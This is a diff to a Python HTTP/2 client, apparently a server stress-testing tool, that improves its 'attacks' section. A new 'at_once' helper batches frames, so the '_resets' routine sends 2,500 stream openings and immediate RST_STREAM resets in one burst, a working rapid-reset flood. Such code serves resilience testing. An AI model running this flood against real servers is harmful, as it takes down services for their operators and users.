@@ -95,7 +95,7 @@ MESSAGES: dict[str, tuple[str, Callable[[], list[bytes]]]] = {
 
 # ---------------------------------------------------------------- attacks: HTTP/2
 
-_DATA, _HEADERS, _RST, _SETTINGS, _PING, _GOAWAY, _WINDOW = 0, 1, 3, 4, 6, 7, 8
+_DATA, _HEADERS, RST_STREAM, _SETTINGS, _PING, _GOAWAY, _WINDOW = 0, 1, 3, 4, 6, 7, 8
 _END_STREAM, _END_HEADERS = 1, 4
 
 
@@ -113,14 +113,25 @@ class Http2:
         self.window = 65_535
         self.windows: dict[int, int] = {}
         self._next = 1
+        self._held: list[bytes] | None = None  # frames to send at once
         self._socket.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
         self.send(_SETTINGS, 0, 0, b"")
 
     def send(self, kind: int, flags: int, stream: int, body: bytes) -> None:
         """Send a frame."""
-        self._socket.sendall(
-            struct.pack(">I", len(body))[1:] + struct.pack(">BBI", kind, flags, stream) + body
-        )
+        head = struct.pack(">I", len(body))[1:] + struct.pack(">BBI", kind, flags, stream)
+        if self._held is None:
+            self._socket.sendall(head + body)
+        else:
+            self._held.append(head + body)
+
+    @contextlib.contextmanager
+    def at_once(self) -> Iterator[None]:
+        """Send the frames of the block in one go at its end, however little time there is."""
+        self._held = held = []
+        yield
+        self._held = None
+        self._socket.sendall(b"".join(held))
 
     def open(self, path: str, metadata: Sequence[tuple[str, str]] = ()) -> int:
         """Begin a call."""
@@ -176,7 +187,7 @@ class Http2:
             self._take_settings(body)
         elif kind == _PING and not flags & 1:
             self.send(_PING, 1, 0, body)
-        elif kind == _RST or (kind in (_DATA, _HEADERS) and flags & _END_STREAM):
+        elif kind == RST_STREAM or (kind in (_DATA, _HEADERS) and flags & _END_STREAM):
             self.windows.pop(stream, None)
         elif kind == _GOAWAY:
             raise ConnectionResetError
@@ -280,11 +291,12 @@ def _incomplete(
 
 def _resets(connection: Http2) -> None:
     """Thousands of calls that are reset as soon as they begin."""
-    for _ in range(2500):
-        stream = connection.open(_QUERY)
-        connection.send(_RST, 0, stream, struct.pack(">I", 8))
-        del connection.windows[stream]
-    connection.send(_PING, 0, 0, bytes(8))
+    with connection.at_once():
+        for _ in range(2500):
+            stream = connection.open(_QUERY)
+            connection.send(RST_STREAM, 0, stream, struct.pack(">I", 8))
+            del connection.windows[stream]
+        connection.send(_PING, 0, 0, bytes(8))
     connection.read()
     time.sleep(2)
 
